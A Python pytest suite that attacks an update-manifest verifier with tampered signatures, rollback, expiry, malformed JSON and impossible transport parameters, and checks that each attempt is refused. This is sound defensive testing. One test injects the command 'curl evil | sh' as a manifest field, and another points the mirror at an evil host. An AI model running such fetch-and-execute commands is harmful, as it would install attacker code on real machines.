"""Attacks on the device's manifest verifier, each named after what it tries and must fail at.

Everything is in-process: manifests are built as dataclasses, signed with throw-away Ed25519 keys
(the signer side makes the fixtures), serialised, tampered with as bytes or as parsed JSON, and
handed to `otacast.plugin.verify.verify_manifest`.  Every refusal is asserted as the *exact*
`ManifestRejected` subclass, so a check that fires for the wrong reason (say, a bad signature
where the manifest should have been refused as malformed) fails the test.

Where an attack edits a field and the point is that the *content* is refused, the edited
``signed`` object is re-signed with the trusted key (`signed_envelope`), so the refusal cannot
be a mere signature mismatch.
"""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import random
from collections import Counter
from collections.abc import Iterator, Sequence
from functools import cache
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from otacast.plugin.verify import verify_manifest
from otacast.schemas import fec
from otacast.schemas.canonical import canonical_bytes
from otacast.schemas.errors import (
    BadSignature,
    BelowThreshold,
    Expired,
    MalformedManifest,
    ManifestRejected,
    ManifestTooLarge,
    Rollback,
    UnknownKey,
    WrongChannel,
    WrongDevice,
)
from otacast.schemas.limits import (
    MAX_DATAGRAM,
    MAX_IMAGE_BYTES,
    MAX_MANIFEST_BYTES,
    MAX_SIGNATURES,
    SYMBOL_ALIGNMENT,
)
from otacast.schemas.manifest import (
    SIGNING_CONTEXT,
    Chunking,
    Envelope,
    FecInfo,
    ImageInfo,
    Manifest,
    Transport,
)
from otacast.schemas.policy import TrustSet, VerifiedManifest
from otacast.schemas.validation import schema_document
from otacast.schemas.wire import DATA_HEADER_SIZE
from otacast.signer.keys import SigningKey, generate
from otacast.signer.sign import sign

CHUNK_SIZE = 55 * 1208  # about 64 KiB in whole symbols
CHANNEL = "updates.example.test"
CREATED = 1_700_000_000
EXPIRES = 1_800_000_000
NOW = 1_750_000_000
SEQUENCE = 7
DEVICE = "devboard-a"
OTHER_DEVICE = "devboard-b"


# --- Fixtures ----------------------------------------------------------------------------------


def make_manifest(*, sequence: int = SEQUENCE, seed: int = 0, image_length: int = 0) -> Manifest:
    """A small valid manifest: three 64 KiB chunks of seeded random bytes (hashes only matter)."""
    length = image_length or 3 * CHUNK_SIZE - 1000
    image = random.Random(seed).randbytes(length)
    symbol = fec.DEFAULT_SYMBOL_SIZE
    spans = (
        fec.chunk_span(length, CHUNK_SIZE, symbol, i)
        for i in range(fec.chunk_count(length, CHUNK_SIZE, symbol))
    )
    chunks = tuple(hashlib.sha256(image[o : o + n]).digest() for o, n in spans)
    return Manifest(
        name="demo-image",
        sequence=sequence,
        version=f"1.0.{sequence}",
        created=CREATED,
        expires=EXPIRES,
        compatible=(DEVICE, "qemux86-64"),
        image=ImageInfo("demo.img", length, hashlib.sha256(image).digest(), "raw"),
        chunks=Chunking(CHUNK_SIZE, chunks),
        fec=FecInfo(symbol_size=fec.DEFAULT_SYMBOL_SIZE),
        transport=Transport.for_channel(CHANNEL),
        http=("https://mirror.example.test/demo.img",),
    )


@cache
def keys() -> tuple[SigningKey, SigningKey, SigningKey]:
    """Three release keys, made once per test session."""
    return generate(), generate(), generate()


@cache
def outsider() -> SigningKey:
    """A key nobody trusts."""
    return generate()


def trust(threshold: int = 1, count: int = 1) -> TrustSet:
    return TrustSet.from_public_keys([k.public for k in keys()[:count]], threshold)


@cache
def release() -> Envelope:
    """The reference release: `make_manifest()` signed by the first trusted key."""
    return sign(make_manifest(), [keys()[0]])


def document() -> dict[str, Any]:
    """A fresh, mutable copy of the reference release's JSON."""
    return copy.deepcopy(release().to_json())


def signed_envelope(signed: dict[str, Any], signers: Sequence[SigningKey] | None = None) -> bytes:
    """Sign an arbitrary (possibly invalid) ``signed`` object exactly as a release key would.

    `otacast.signer.sign.sign` refuses to emit a manifest the parser rejects, so the signed-but-bad
    manifests an attacker could only get from a careless or compromised publisher are made here.
    """
    message = SIGNING_CONTEXT + canonical_bytes(signed)
    signatures = [{"keyid": k.key_id, "sig": k.sign(message).hex()} for k in signers or keys()[:1]]
    return canonical_bytes({"signed": signed, "signatures": signatures})


def encode(doc: Any) -> bytes:
    return canonical_bytes(doc)


def verify(
    data: bytes,
    trust_set: TrustSet | None = None,
    *,
    now: float = NOW,
    device_type: str | None = DEVICE,
    installed_sequence: int | None = SEQUENCE - 1,
    channel: str | None = CHANNEL,
) -> VerifiedManifest:
    return verify_manifest(
        data,
        trust_set or trust(),
        now=now,
        device_type=device_type,
        installed_sequence=installed_sequence,
        channel=channel,
    )


def refused(
    error: type[ManifestRejected], data: bytes, trust_set: TrustSet | None = None, **kwargs: Any
) -> ManifestRejected:
    """Assert `verify` refuses `data` with exactly `error` (not a subclass, not a sibling)."""
    with pytest.raises(error) as info:
        verify(data, trust_set, **kwargs)
    assert type(info.value) is error, f"expected {error.__name__}, got {info.value!r}"
    assert str(info.value) and "\n" not in str(info.value)
    return info.value


def replace_once(data: bytes, old: bytes, new: bytes) -> bytes:
    assert data.count(old) == 1, f"{old!r} occurs {data.count(old)} times"
    return data.replace(old, new)


def test_reference_release_verifies() -> None:
    verified = verify(release().compact_bytes)
    assert verified.manifest == make_manifest()
    assert verified.signers == (keys()[0].key_id,)


# --- Tampering with signed content -------------------------------------------------------------


def test_flipped_signature_bit_is_refused() -> None:
    doc = document()
    sig = bytearray(bytes.fromhex(doc["signatures"][0]["sig"]))
    for position in (0, 31, 63):
        flipped = bytearray(sig)
        flipped[position] ^= 0x01
        doc["signatures"][0]["sig"] = flipped.hex()
        refused(BadSignature, encode(doc))


def test_flipped_bit_in_signed_field_is_refused() -> None:
    doc = document()
    doc["signed"]["sequence"] ^= 1 << 20
    refused(BadSignature, encode(doc))


def test_swapped_chunk_hash_breaks_the_signature() -> None:
    doc = document()
    doc["signed"]["chunks"]["sha256"][1] = hashlib.sha256(b"evil chunk").hexdigest()
    refused(BadSignature, encode(doc))


def test_swapped_image_hash_breaks_the_signature() -> None:
    doc = document()
    doc["signed"]["image"]["sha256"] = hashlib.sha256(b"evil image").hexdigest()
    refused(BadSignature, encode(doc))


def test_reordered_chunk_hashes_break_the_signature() -> None:
    doc = document()
    hashes = doc["signed"]["chunks"]["sha256"]
    assert len(set(hashes)) == len(hashes) >= 2
    hashes[0], hashes[1] = hashes[1], hashes[0]
    refused(BadSignature, encode(doc))


def test_redirected_mirror_breaks_the_signature() -> None:
    doc = document()
    doc["signed"]["http"] = ["https://evil.example.test/demo.img"]
    refused(BadSignature, encode(doc))


def test_forged_fields_are_not_interpreted_before_the_signature_check() -> None:
    # An altered manifest that would also be expired, a rollback and for another device must be
    # refused as altered: signatures come first, nothing unauthenticated is acted on.
    doc = document()
    doc["signed"]["compatible"] = [OTHER_DEVICE]
    doc["signed"]["sequence"] = 1
    refused(BadSignature, encode(doc), now=EXPIRES + 1, installed_sequence=SEQUENCE)


def test_signature_without_the_context_string_is_refused() -> None:
    # A signature over the bare canonical bytes (as another protocol might make) must not count.
    doc = document()
    key = keys()[0]
    doc["signatures"] = [
        {"keyid": key.key_id, "sig": key.sign(release().manifest.signed_bytes).hex()}
    ]
    refused(BadSignature, encode(doc))


def test_signature_filed_under_another_trusted_keyid_is_refused() -> None:
    doc = document()
    doc["signatures"][0]["keyid"] = keys()[1].key_id
    refused(BadSignature, encode(doc), trust(1, 2))


# --- Whitespace and representation ------------------------------------------------------------


def test_whitespace_reformatting_keeps_signature_valid() -> None:
    envelope = release()
    variants = [
        envelope.compact_bytes,
        envelope.to_file_bytes(),
        json.dumps(envelope.to_json(), indent="\t", sort_keys=False).encode(),
        b"\r\n  " + json.dumps(envelope.to_json(), separators=(" , ", " : ")).encode() + b"\n\n",
        json.dumps(envelope.to_json(), ensure_ascii=True).encode(),
    ]
    assert len(set(variants)) == len(variants)
    for data in variants:
        verified = verify(data)
        assert verified.manifest.signed_bytes == envelope.manifest.signed_bytes
        assert verified.envelope.compact_bytes == envelope.compact_bytes


def test_signed_object_that_does_not_round_trip_is_refused() -> None:
    # An empty stream_keys list is valid JSON Schema-wise but the model drops it; the verifier
    # must not check a signature over one byte string and act on another.
    signed = document()["signed"]
    signed["stream_keys"] = []
    refused(MalformedManifest, signed_envelope(signed))


# --- Rollback, expiry, device binding ----------------------------------------------------------


@pytest.mark.parametrize("installed", [SEQUENCE, SEQUENCE + 1, 2**53 - 1])
def test_rollback_manifest_is_refused(installed: int) -> None:
    refused(Rollback, release().compact_bytes, installed_sequence=installed)


@pytest.mark.parametrize("installed", [None, 0, 1, SEQUENCE - 1])
def test_newer_sequence_is_accepted(installed: int | None) -> None:
    verified = verify(release().compact_bytes, installed_sequence=installed)
    assert verified.manifest.sequence == SEQUENCE


@pytest.mark.parametrize("now", [EXPIRES, EXPIRES + 0.001, EXPIRES + 1, EXPIRES + 10**9])
def test_expired_manifest_is_refused(now: float) -> None:
    refused(Expired, release().compact_bytes, now=now)


@pytest.mark.parametrize("now", [CREATED, EXPIRES - 1, EXPIRES - 0.001])
def test_manifest_before_expiry_is_accepted(now: float) -> None:
    assert verify(release().compact_bytes, now=now).manifest.expires == EXPIRES


@pytest.mark.parametrize(
    "device_type", [OTHER_DEVICE, DEVICE.upper(), DEVICE[:-1], DEVICE + "x", f"{DEVICE}\n", ""]
)
def test_wrong_device_is_refused(device_type: str) -> None:
    refused(WrongDevice, release().compact_bytes, device_type=device_type)


@pytest.mark.parametrize(
    "channel", ["beta.example.test", CHANNEL.upper(), CHANNEL[:-1], CHANNEL + ".", ""]
)
def test_a_release_signed_for_another_channel_is_refused(channel: str) -> None:
    # The same key signs every channel: a beta release at a high sequence must not become the
    # stable device's release (and its rollback floor).
    refused(WrongChannel, release().compact_bytes, channel=channel)
    beta = dataclasses.replace(
        make_manifest(sequence=900), transport=Transport.for_channel("beta.example.test")
    )
    refused(WrongChannel, sign(beta, [keys()[0]]).compact_bytes, channel=CHANNEL)
    assert verify(sign(beta, [keys()[0]]).compact_bytes, channel=None).manifest.sequence == 900


def test_device_type_absent_skips_binding() -> None:
    verified = verify(release().compact_bytes, device_type=None)
    assert DEVICE in verified.manifest.compatible
    other = sign(make_manifest(), [keys()[0]])
    assert verify(other.compact_bytes, device_type=None).manifest == other.manifest


def test_expiry_before_creation_is_refused() -> None:
    for expires in (CREATED - 1, CREATED):
        signed = document()["signed"]
        signed["expires"] = expires
        refused(MalformedManifest, signed_envelope(signed), now=CREATED - 10)


# --- Keys and thresholds -----------------------------------------------------------------------


def test_below_threshold_is_refused() -> None:
    envelope = sign(make_manifest(), [keys()[0]])
    error = refused(BelowThreshold, envelope.compact_bytes, trust(2, 3))
    assert "1" in str(error) and "2" in str(error)


def test_threshold_met_by_distinct_keys() -> None:
    for pair in ((0, 1), (1, 2), (0, 2)):
        envelope = sign(make_manifest(), [keys()[i] for i in pair])
        verified = verify(envelope.compact_bytes, trust(2, 3))
        assert set(verified.signers) == {keys()[i].key_id for i in pair}


def test_all_three_of_three_meet_the_threshold() -> None:
    envelope = sign(make_manifest(), list(keys()))
    assert len(verify(envelope.compact_bytes, trust(3, 3)).signers) == 3


def test_duplicate_signatures_by_one_key_do_not_meet_threshold() -> None:
    doc = sign(make_manifest(), [keys()[0]]).to_json()
    doc["signatures"] = doc["signatures"] * 2
    refused(BelowThreshold, encode(doc), trust(2, 3))
    doc["signatures"] = doc["signatures"][:1] * MAX_SIGNATURES  # as many copies as allowed
    assert len(doc["signatures"]) == MAX_SIGNATURES
    refused(BelowThreshold, encode(doc), trust(2, 3))


def test_duplicate_signature_cannot_hide_behind_a_valid_one() -> None:
    # Same key id twice, one valid and one garbage: the key counts once either way, so 2-of-3
    # fails.  Listed after the valid one, the copy is skipped unchecked (too few signatures);
    # listed before it, it is checked and fails (an altered signature).
    valid = sign(make_manifest(), [keys()[0]]).to_json()["signatures"][0]
    garbage = {"keyid": keys()[0].key_id, "sig": "00" * 64}
    doc = document()
    doc["signatures"] = [valid, garbage]
    refused(BelowThreshold, encode(doc), trust(2, 3))
    doc["signatures"] = [garbage, valid]
    refused(BadSignature, encode(doc), trust(2, 3))


def test_one_valid_and_one_forged_trusted_signature_is_refused() -> None:
    doc = sign(make_manifest(), [keys()[0]]).to_json()
    doc["signatures"].append({"keyid": keys()[1].key_id, "sig": "ab" * 64})
    refused(BadSignature, encode(doc), trust(2, 3))


def test_unknown_key_is_refused() -> None:
    envelope = sign(make_manifest(), [outsider()])
    refused(UnknownKey, envelope.compact_bytes)
    refused(UnknownKey, envelope.compact_bytes, trust(2, 3))


def test_many_untrusted_signatures_do_not_add_up_to_a_threshold() -> None:
    outsiders = [generate() for _ in range(3)]
    envelope = sign(make_manifest(), outsiders)
    refused(UnknownKey, envelope.compact_bytes, trust(2, 3))


def test_signature_from_untrusted_key_beside_trusted_one_is_ignored() -> None:
    envelope = sign(make_manifest(), [outsider(), keys()[0]])
    verified = verify(envelope.compact_bytes)
    assert verified.signers == (keys()[0].key_id,)
    # ... and it cannot make up the second signature of a 2-of-3.
    refused(BelowThreshold, envelope.compact_bytes, trust(2, 3))


def test_untrusted_key_claiming_a_trusted_keyid_is_refused() -> None:
    doc = sign(make_manifest(), [outsider()]).to_json()
    doc["signatures"][0]["keyid"] = keys()[0].key_id
    refused(BadSignature, encode(doc))


def test_signature_by_trusted_key_over_other_release_is_refused() -> None:
    other = sign(make_manifest(sequence=SEQUENCE + 1, seed=1), [keys()[0]])
    doc = document()
    doc["signatures"] = other.to_json()["signatures"]
    refused(BadSignature, encode(doc))
    # The other way round too: an old release's signature on a new manifest body.
    doc = other.to_json()
    doc["signatures"] = document()["signatures"]
    refused(BadSignature, encode(doc))


@pytest.mark.parametrize("count", [0, MAX_SIGNATURES + 1])
def test_signature_list_of_wrong_size_is_refused(count: int) -> None:
    doc = document()
    doc["signatures"] = (doc["signatures"] * count)[:count]
    refused(MalformedManifest, encode(doc))


# --- Size, structure and strict JSON -----------------------------------------------------------


def test_oversized_manifest_is_refused_before_parsing() -> None:
    data = release().compact_bytes
    padding = MAX_MANIFEST_BYTES - len(data)
    # Exactly at the limit, a valid manifest padded with JSON whitespace still verifies...
    assert verify(data + b" " * padding).manifest == release().manifest
    # ... one byte more is refused by size alone, whatever the bytes are.
    refused(ManifestTooLarge, data + b" " * (padding + 1))
    refused(ManifestTooLarge, b"\xff" * (MAX_MANIFEST_BYTES + 1))
    refused(ManifestTooLarge, b"[" * (MAX_MANIFEST_BYTES + 1))


def test_unknown_field_is_refused() -> None:
    signed = document()["signed"]
    signed["install_script"] = "curl evil | sh"
    refused(MalformedManifest, signed_envelope(signed))
    for where in ("image", "chunks", "fec", "transport"):
        signed = document()["signed"]
        signed[where]["extra"] = 1
        refused(MalformedManifest, signed_envelope(signed))
    doc = document()
    doc["unsigned_extra"] = {"sequence": 1}
    refused(MalformedManifest, encode(doc))
    doc = document()
    doc["signatures"][0]["comment"] = "hi"
    refused(MalformedManifest, encode(doc))


@pytest.mark.parametrize("field", sorted(schema_document()["properties"]["signed"]["required"]))
def test_missing_field_is_refused(field: str) -> None:
    signed = document()["signed"]
    del signed[field]
    refused(MalformedManifest, signed_envelope(signed))


@pytest.mark.parametrize(
    ("parent", "field"),
    [
        ("image", "length"),
        ("image", "sha256"),
        ("chunks", "sha256"),
        ("chunks", "size"),
        ("fec", "symbol_size"),
        ("transport", "ssm_group"),
        ("transport", "srv"),
    ],
)
def test_missing_nested_field_is_refused(parent: str, field: str) -> None:
    signed = document()["signed"]
    del signed[parent][field]
    refused(MalformedManifest, signed_envelope(signed))


@pytest.mark.parametrize("field", ["signed", "signatures"])
def test_missing_envelope_part_is_refused(field: str) -> None:
    doc = document()
    del doc[field]
    refused(MalformedManifest, encode(doc))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'"sequence":7', b'"sequence":7.0'),
        (b'"sequence":7', b'"sequence":7e0'),
        (b'"sequence":7', b'"sequence":0.7E1'),
        (b'"created":1700000000', b'"created":1700000000.5'),
        (b'"port":4242', b'"port":4242.0'),
        (b'"sequence":7', b'"sequence":1e999'),
    ],
)
def test_float_number_is_refused(old: bytes, new: bytes) -> None:
    refused(MalformedManifest, replace_once(release().compact_bytes, old, new))


@pytest.mark.parametrize("constant", [b"NaN", b"Infinity", b"-Infinity"])
def test_nan_is_refused(constant: bytes) -> None:
    data = replace_once(release().compact_bytes, b'"sequence":7', b'"sequence":' + constant)
    refused(MalformedManifest, data)


def test_negative_length_is_refused() -> None:
    for length in (-1, -(3 * CHUNK_SIZE - 1000), 0):
        signed = document()["signed"]
        signed["image"]["length"] = length
        refused(MalformedManifest, signed_envelope(signed))


def test_huge_image_length_is_refused() -> None:
    # Chunk hashes consistent with the claimed length, so only the size itself is wrong.
    size = 6944 * fec.DEFAULT_SYMBOL_SIZE  # the largest chunk, in whole symbols
    for length in (MAX_IMAGE_BYTES + 1, 2**63):
        signed = document()["signed"]
        signed["image"]["length"] = length
        signed["chunks"]["size"] = size
        count = min(fec.chunk_count(length, size, fec.DEFAULT_SYMBOL_SIZE), 16385)
        signed["chunks"]["sha256"] = ["ab" * 32] * count
        refused(MalformedManifest, signed_envelope(signed))


@pytest.mark.parametrize("delta", [-1, +1])
def test_chunk_count_disagreeing_with_length_is_refused(delta: int) -> None:
    signed = document()["signed"]
    hashes = signed["chunks"]["sha256"]
    signed["chunks"]["sha256"] = hashes[:-1] if delta < 0 else [*hashes, hashes[0]]
    refused(MalformedManifest, signed_envelope(signed))


def test_image_length_disagreeing_with_chunk_count_is_refused() -> None:
    signed = document()["signed"]
    signed["image"]["length"] = 4 * CHUNK_SIZE  # four chunks' worth, three hashes listed
    refused(MalformedManifest, signed_envelope(signed))


def test_duplicate_json_keys_are_refused() -> None:
    data = release().compact_bytes
    # A second "sequence" inside the signed object: one parser might take the first, another
    # the last; the verifier takes neither.
    refused(MalformedManifest, replace_once(data, b'"signed":{', b'"signed":{"sequence":999,'))
    # A duplicate at the top level, with the second copy a different manifest.
    other = sign(make_manifest(seed=3), [keys()[0]]).compact_bytes
    twice = data[:-1] + b"," + other[1:-1] + b"}"
    refused(MalformedManifest, twice)
    # Duplicate key in a signature object.
    doc = document()
    sig = json.dumps(doc["signatures"][0]["sig"]).encode()
    text = replace_once(encode(doc), b'"sig":' + sig, b'"sig":' + sig + b',"sig":' + sig)
    refused(MalformedManifest, text)


def test_non_utf8_manifest_is_refused() -> None:
    data = release().compact_bytes
    refused(MalformedManifest, replace_once(data, b'"demo-image"', b'"demo-\xe9mage"'))
    refused(MalformedManifest, replace_once(data, b'"demo-image"', b'"demo-\xffimage"'))
    refused(MalformedManifest, data[:-1] + b"\xc3")  # truncated multi-byte sequence
    refused(MalformedManifest, data.decode().encode("utf-16"))
    refused(MalformedManifest, data.decode().encode("utf-32-le"))


def test_bom_is_refused() -> None:
    refused(MalformedManifest, b"\xef\xbb\xbf" + release().compact_bytes)
    refused(MalformedManifest, b"\xef\xbb\xbf" + release().to_file_bytes())


@pytest.mark.parametrize("depth", [100, 980, 1000, 100_000, MAX_MANIFEST_BYTES // 2])
def test_deeply_nested_json_is_refused(depth: int) -> None:
    nest = b"[" * depth + b"]" * depth
    refused(MalformedManifest, nest)
    objects = b'{"a":' * depth + b"1" + b"}" * depth
    if len(objects) <= MAX_MANIFEST_BYTES:
        refused(MalformedManifest, objects)
    data = release().compact_bytes
    if len(data) + len(nest) < MAX_MANIFEST_BYTES:
        nested = replace_once(data, b'"compatible":[', b'"compatible":[' + nest + b",")
        try:
            signed = json.loads(nested)["signed"]
        except RecursionError:
            refused(MalformedManifest, nested)  # too deep to parse: refused before anything
        else:
            # Parseable: refused as content when signed, and as forged when not.
            refused(MalformedManifest, signed_envelope(signed))
            refused(BadSignature, nested)
        refused(
            MalformedManifest,
            replace_once(data, b'"signatures":[', b'"signatures":[' + nest + b","),
        )


@pytest.mark.parametrize("digits", [4301, 5000, 100_000])
def test_integer_with_thousands_of_digits_is_refused(digits: int) -> None:
    data = release().compact_bytes
    number = b"9" * digits
    refused(MalformedManifest, replace_once(data, b'"sequence":7', b'"sequence":' + number))
    refused(MalformedManifest, number)


def test_integer_just_under_the_digit_limit_is_refused_by_range() -> None:
    signed = document()["signed"]
    signed["sequence"] = int("9" * 4000)
    refused(MalformedManifest, signed_envelope(signed))


def test_lone_surrogate_is_refused() -> None:
    data = release().compact_bytes
    # Escaped in a free-form string the schema lets through (a mirror URL): must not reach
    # the canonical encoder as something it cannot encode.
    mirror = b'"https://mirror.example.test/demo.img"'
    refused(MalformedManifest, replace_once(data, mirror, b'"https://mirror.example.test/\\ud800"'))
    refused(MalformedManifest, replace_once(data, mirror, b'"https://mirror.example.test/\\udfff"'))
    # Escaped in a key, and raw (CESU-style) in the bytes.
    refused(MalformedManifest, replace_once(data, b'"signed":{', b'"signed":{"\\ud800":1,'))
    refused(MalformedManifest, replace_once(data, b'"demo-image"', b'"demo-\xed\xa0\x80image"'))


def test_surrogate_pair_is_not_mistaken_for_a_lone_surrogate() -> None:
    signed = document()["signed"]
    signed["http"] = ["https://mirror.example.test/\U0001f600"]
    data = signed_envelope(signed)
    escaped = json.dumps(json.loads(data), ensure_ascii=True).encode()
    assert b"\\ud83d\\ude00" in escaped
    for variant in (data, escaped):
        assert verify(variant).manifest.http == ("https://mirror.example.test/\U0001f600",)


@pytest.mark.parametrize("junk", [b"", b" ", b"null", b"[]", b"{}", b'"signed"', b"7", b"true"])
def test_non_object_or_empty_document_is_refused(junk: bytes) -> None:
    refused(MalformedManifest, junk)


def test_truncated_manifest_is_refused() -> None:
    data = release().compact_bytes
    for cut in (1, 2, len(data) // 2, len(data) - 1):
        refused(MalformedManifest, data[:cut])


# --- Transport and FEC parameters (signed, but impossible) -------------------------------------


@pytest.mark.parametrize(
    ("field", "group"),
    [
        ("asm_group", "2001:db8::1"),  # unicast
        ("asm_group", "ff02::1"),  # permanent, not transient
        ("asm_group", "ff3e::8000:1"),  # SSM range
        ("asm_group", "239.1.2.3"),  # IPv4
        ("asm_group", "ff1e::1::2"),  # not an address
        ("ssm_group", "ff1e::8000:1"),  # ASM range
        ("ssm_group", "ff3e:1::8000:1"),  # outside ff3x::/96
        ("ssm_group", "2001:db8::1"),
        ("ssm_group", "::ffff:232.1.2.3"),
    ],
)
def test_transport_group_outside_multicast_range_is_refused(field: str, group: str) -> None:
    signed = document()["signed"]
    signed["transport"][field] = group
    refused(MalformedManifest, signed_envelope(signed))


def test_transport_channel_and_srv_must_agree() -> None:
    signed = document()["signed"]
    signed["transport"]["srv"] = "_otacast._udp.evil.example.test"
    refused(MalformedManifest, signed_envelope(signed))
    signed = document()["signed"]
    signed["transport"]["channel"] = CHANNEL.upper()
    refused(MalformedManifest, signed_envelope(signed))


def test_symbol_size_too_large_for_datagram_is_refused() -> None:
    largest = (MAX_DATAGRAM - DATA_HEADER_SIZE) // SYMBOL_ALIGNMENT * SYMBOL_ALIGNMENT
    signed = document()["signed"]
    signed["fec"]["symbol_size"] = largest
    signed["chunks"]["size"] = 8 * largest  # whole symbols; still three chunks
    assert verify(signed_envelope(signed)).manifest.fec.symbol_size == largest
    for size in (largest + SYMBOL_ALIGNMENT, 65536):
        signed["fec"]["symbol_size"] = size
        refused(MalformedManifest, signed_envelope(signed))


@pytest.mark.parametrize("size", [0, 8, fec.DEFAULT_SYMBOL_SIZE + 1, fec.DEFAULT_SYMBOL_SIZE - 4])
def test_misaligned_or_tiny_symbol_size_is_refused(size: int) -> None:
    signed = document()["signed"]
    signed["fec"]["symbol_size"] = size
    refused(MalformedManifest, signed_envelope(signed))


# --- Regressions: each of these once got through -------------------------------------------


@pytest.fixture
def validator_use(monkeypatch: pytest.MonkeyPatch) -> Counter[str]:
    """How often the schema validator is asked about a document ("asked"), and how many errors
    it is made to compute ("errors"): counted instead of timed."""
    from otacast.schemas import validation

    real = validation._validator()
    use: Counter[str] = Counter()

    class Counting:
        def iter_errors(self, document: Any) -> Iterator[Any]:
            use["asked"] += 1
            for error in real.iter_errors(document):
                use["errors"] += 1
                yield error

    monkeypatch.setattr(validation, "_validator", lambda: Counting())
    return use


def test_junk_array_is_refused_after_the_first_schema_error(validator_use: Counter[str]) -> None:
    # Collecting every schema error of an array of junk once cost one error object per item
    # (20-50 s of CPU for 2 MiB), and then before any signature was checked.  Only a signed
    # manifest reaches the validator now (next test), and it still computes one error.
    signed = document()["signed"]
    signed["chunks"]["sha256"] = [1] * 100_000
    refused(MalformedManifest, signed_envelope(signed))
    assert validator_use["errors"] == 1


def test_forged_envelopes_are_refused_before_the_schema_validator_runs(
    validator_use: Counter[str],
) -> None:
    # The JSON Schema costs ~0.4 s of CPU for a 1.1 MB manifest: run first, it let anyone on
    # the channel keep a core busy with ~2.5 MB/s of forgeries.  Now an envelope reaches it only
    # once its signatures hold.
    junk = document()
    junk["signed"]["chunks"]["sha256"] = ["zz" * 32] * 16384  # ~1.1 MB, schema-invalid
    outsiders = junk | {"signatures": [{"keyid": outsider().key_id, "sig": "ab" * 64}]}
    forged = [
        (BadSignature, encode(junk)),  # the trusted key's signature, over another manifest
        (UnknownKey, encode(outsiders)),
        (MalformedManifest, b"{" + b" " * 1_000_000),  # not JSON
        (ManifestTooLarge, b"{" * (MAX_MANIFEST_BYTES + 1)),
    ]
    for error, data in forged:
        refused(error, data)
    assert validator_use["asked"] == 0
    refused(MalformedManifest, signed_envelope(junk["signed"]))  # genuinely signed
    assert validator_use["asked"] == 1


@pytest.mark.parametrize(
    "path",
    [("name",), ("version",), ("image", "name"), ("http", 0), ("compatible", 0)],
)
def test_trailing_newline_in_signed_string_is_refused(path: tuple[str | int, ...]) -> None:
    signed = document()["signed"]
    parent: Any = signed
    for step in path[:-1]:
        parent = parent[step]
    parent[path[-1]] += "\n"
    refused(MalformedManifest, signed_envelope(signed), device_type=None)


def test_newline_inside_channel_name_is_refused() -> None:
    signed = document()["signed"]
    channel = "abc\n.example.test"
    signed["transport"]["channel"] = channel
    signed["transport"]["srv"] = "_otacast._udp." + channel
    refused(MalformedManifest, signed_envelope(signed))


def test_trailing_newline_in_signature_hex_is_refused() -> None:
    doc = document()
    doc["signatures"][0]["sig"] += "\n"
    refused(MalformedManifest, encode(doc))


@pytest.mark.parametrize(
    ("field", "group"), [("asm_group", "ff1e::1%eth0"), ("ssm_group", "ff3e::8000:1%1")]
)
def test_multicast_group_with_zone_index_is_refused(field: str, group: str) -> None:
    signed = document()["signed"]
    signed["transport"][field] = group
    refused(MalformedManifest, signed_envelope(signed))


# --- Properties --------------------------------------------------------------------------------


def outcome(data: bytes) -> VerifiedManifest | None:
    """Verify; a `ManifestRejected` is a fine answer, any other exception fails the property."""
    try:
        return verify(data, installed_sequence=None)
    except ManifestRejected as exc:
        assert type(exc) is not ManifestRejected  # always a specific reason
        return None


PROPERTY = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPERTY
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_are_refused_cleanly(data: bytes) -> None:
    assert outcome(data) is None


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.text(max_size=20)
    | st.sampled_from(["ab" * 32, "", DEVICE, "ff1e::1"]),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)


@PROPERTY
@given(st.data())
def test_arbitrary_json_in_any_field_is_refused_cleanly(data: st.DataObject) -> None:
    doc = document()
    parent: Any = doc
    while True:
        keys_here = list(parent) if isinstance(parent, dict) else list(range(len(parent)))
        key = data.draw(st.sampled_from(keys_here))
        child = parent[key]
        if not isinstance(child, dict | list) or not child or data.draw(st.booleans()):
            break
        parent = child
    parent[key] = data.draw(json_values)
    verified = outcome(json.dumps(doc).encode())
    if verified is not None:
        assert verified.manifest.signed_bytes == release().manifest.signed_bytes


@PROPERTY
@given(st.data(), st.booleans())
def test_flipped_or_deleted_byte_never_changes_what_is_accepted(
    data: st.DataObject, pretty: bool
) -> None:
    original = release()
    raw = original.to_file_bytes() if pretty else original.compact_bytes
    index = data.draw(st.integers(0, len(raw) - 1), label="index")
    if data.draw(st.booleans(), label="delete"):
        mutated = raw[:index] + raw[index + 1 :]
    else:
        mask = data.draw(st.integers(1, 255), label="mask")
        mutated = raw[:index] + bytes([raw[index] ^ mask]) + raw[index + 1 :]
    verified = outcome(mutated)
    if verified is not None:
        assert verified.manifest.signed_bytes == original.manifest.signed_bytes
        assert verified.manifest == original.manifest
